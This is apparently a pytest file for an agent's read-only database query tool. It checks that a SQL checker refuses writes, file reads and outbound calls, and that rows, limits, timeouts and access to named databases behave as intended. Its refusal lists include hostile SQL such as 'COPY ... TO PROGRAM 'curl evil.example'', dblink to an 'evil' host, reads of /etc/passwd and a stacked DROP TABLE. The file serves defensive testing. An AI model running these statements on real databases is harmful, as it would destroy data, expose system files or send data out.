"""DatabaseQuery: what may be asked, and that a database cannot be changed even where the check were wrong."""

import json
import sqlite3
from pathlib import Path

import pytest
from faultmaven.agent.tools import database_connections
from faultmaven.agent.tools.database_connections import _with_percent, dialect_of, read_only
from faultmaven.agent.tools.database_query import DatabaseQuery, DatabaseQueryParameters
from faultmaven.agent.tools.databases import SecretDatabases
from faultmaven.agent.tools.errors import ToolFailed, WrongArguments
from faultmaven.agent.tools.sql_check import checked
from faultmaven.providers.secrets.protocol import FixedSecrets

WRITES = (
    *("DELETE FROM orders", "UPDATE orders SET id = 1", "INSERT INTO orders VALUES (1)", "DROP TABLE orders"),
    *("WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone", "SELECT * INTO copy FROM orders"),
    *("SELECT 1; DROP TABLE orders", "SELECT * FROM orders FOR UPDATE", "TRUNCATE orders", "CREATE TABLE t (a int)"),
    *("SELECT pg_sleep(60)", "SELECT pg_read_file('/etc/passwd')", "SELECT lo_import('/etc/passwd')"),
    *("SELECT pg_catalog.pg_terminate_backend(1)", "SELECT dblink('host=evil', 'SELECT 1')", "SELECT nextval('s')"),
    *("COPY orders TO PROGRAM 'curl evil.example'", "COPY orders TO '/tmp/x'", "CALL purge()", "DO $$ BEGIN END $$"),
    *(
        "EXPLAIN ANALYZE DELETE FROM orders",
        "SET ROLE postgres",
        "GRANT ALL ON orders TO public",
        "VACUUM",
        "LOCK orders",
    ),
    *(
        "SELECT * FROM orders WHERE id = (SELECT set_config('x', 'y', false)::int)",
        "PREPARE p AS SELECT 1",
        "",
        "hello",
    ),
    *(
        "/* SELECT */ DELETE FROM orders",
        "SELECT 1 /* */; -- \nDELETE FROM orders",
        "(((((",
        "LISTEN x",
        "NOTIFY x, 'y'",
    ),
)


@pytest.mark.parametrize("sql", WRITES)
@pytest.mark.parametrize("dialect", ["postgres", "sqlite"])
def test_what_writes_waits_reads_files_or_calls_out_is_refused(sql: str, dialect: str) -> None:
    with pytest.raises(WrongArguments):
        checked(sql, dialect, 10)


@pytest.mark.parametrize(
    "sql",
    [
        *(
            "SELECT LOAD_FILE('/etc/passwd')",
            "SELECT * FROM o INTO OUTFILE '/tmp/x'",
            "SELECT SLEEP(9)",
            "SELECT @@version",
        ),
        *(
            "SELECT BENCHMARK(1e9, MD5('a'))",
            "SELECT @a := 1",
            "SELECT /*!50000 SLEEP(9) */",
            "SELECT GET_LOCK('a', 9)",
        ),
        *(
            "HANDLER orders OPEN",
            "LOAD DATA INFILE '/etc/passwd' INTO TABLE o",
            "SELECT * FROM o FOR SHARE",
            "USE mysql",
        ),
    ],
)
def test_what_mysql_adds_is_refused(sql: str) -> None:
    with pytest.raises(WrongArguments):
        checked(sql, "mysql", 10)


def test_what_mysql_would_read_inside_a_comment_is_not_sent() -> None:
    assert "SLEEP" not in checked("SELECT 1 /*!50000 + SLEEP(9) */ FROM o", "mysql", 10)


def test_reading_is_written_anew_with_a_limit_and_without_comments() -> None:
    sql = checked("WITH a AS (SELECT 1 AS x) SELECT x, count(*) FROM a -- a word\nGROUP BY x", "postgres", 5)
    assert sql.startswith("SELECT * FROM (WITH a AS")
    assert sql.endswith("AS asked LIMIT 6")
    assert "a word" not in sql


@pytest.fixture
def url(tmp_path: Path) -> str:
    path = tmp_path / "orders.db"
    with sqlite3.connect(path) as connection:
        connection.execute("CREATE TABLE orders (id INTEGER, state TEXT)")
        connection.executemany(
            "INSERT INTO orders VALUES (?, ?)", [(n, "paid" if n % 2 else "lost") for n in range(500)]
        )
    connection.close()
    return f"sqlite://{path}"


def ask(url: str, sql: str, *params: object, limit: int = 100) -> str:
    asked = DatabaseQueryParameters(database="orders", sql=sql, params=params, limit=limit)
    return DatabaseQuery().act(asked, {"url": url})


def test_rows_come_as_json_and_are_cut_at_the_limit(url: str) -> None:
    lines = ask(url, "SELECT id, state FROM orders WHERE state = ? ORDER BY id", "lost", limit=3).splitlines()
    assert [json.loads(line) for line in lines[:3]] == [{"id": n, "state": "lost"} for n in (0, 2, 4)]
    assert lines[3:] == ["(cut at 3 rows; there are more)"]
    assert ask(url, "SELECT id FROM orders WHERE id < 0") == "No row. Columns: id"


@pytest.mark.parametrize(
    "sql",
    [
        *("DELETE FROM orders", "UPDATE orders SET id = 1", "CREATE TABLE t (a)", "PRAGMA writable_schema = 1"),
        *("ATTACH '/tmp/other.db' AS other", "VACUUM INTO '/tmp/copy.db'", "SELECT load_extension('x')"),
    ],
)
def test_the_connection_itself_cannot_write_attach_or_load(url: str, sql: str) -> None:
    with pytest.raises(ToolFailed):
        read_only(url, sql, (), 10)
    assert ask(url, "SELECT count(*) AS n FROM orders") == '{"n": 500}'


def test_a_statement_that_takes_too_long_is_stopped(url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(database_connections, "TIMEOUT_S", 0.1)
    endless = "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT count(*) FROM n"
    with pytest.raises(ToolFailed, match="interrupted"):
        ask(url, endless)


def test_a_database_that_is_not_there_is_told_without_its_address() -> None:
    for url in ("postgresql://reader:canary@127.0.0.1:1/db", "mysql://reader:canary@127.0.0.1:1/db"):
        with pytest.raises(ToolFailed) as failed:
            ask(url, "SELECT 1")
        assert "canary" not in failed.value.detail
        assert "127.0.0.1" not in failed.value.detail
    with pytest.raises(ToolFailed, match="not supported"):
        dialect_of("mongodb://x/")


def test_question_marks_become_the_drivers_marks_and_texts_stay() -> None:
    assert _with_percent("SELECT '?', \"a?\" FROM t WHERE x = ? AND y LIKE '5%'") == (
        "SELECT '?', \"a?\" FROM t WHERE x = %s AND y LIKE '5%%'"
    )


def test_only_named_users_learn_that_a_database_exists() -> None:
    entries = {
        "orders": {"url": "postgresql://x/orders", "users": ["user_ada"]},
        "status": {"url": "postgresql://x/status", "users": ["*"]},
        "nobody": {"url": "postgresql://x/nobody"},
        "none": "a generated text",
    }
    known = SecretDatabases(FixedSecrets({"id": (json.dumps(entries),)}), "id")
    assert (known.names("user_ada"), known.names("user_eve")) == (["orders", "status"], ["status"])
    assert known.url("orders", "user_ada") == "postgresql://x/orders"
    for name in ("orders", "nobody", "none", "missing"):
        with pytest.raises(ToolFailed, match="no database of that name"):
            known.url(name, "user_eve")
    assert SecretDatabases(FixedSecrets({}), "").names("user_ada") == []
    with pytest.raises(ToolFailed, match="cannot be read"):
        SecretDatabases(FixedSecrets({"id": ("[]",)}), "id").names("user_ada")
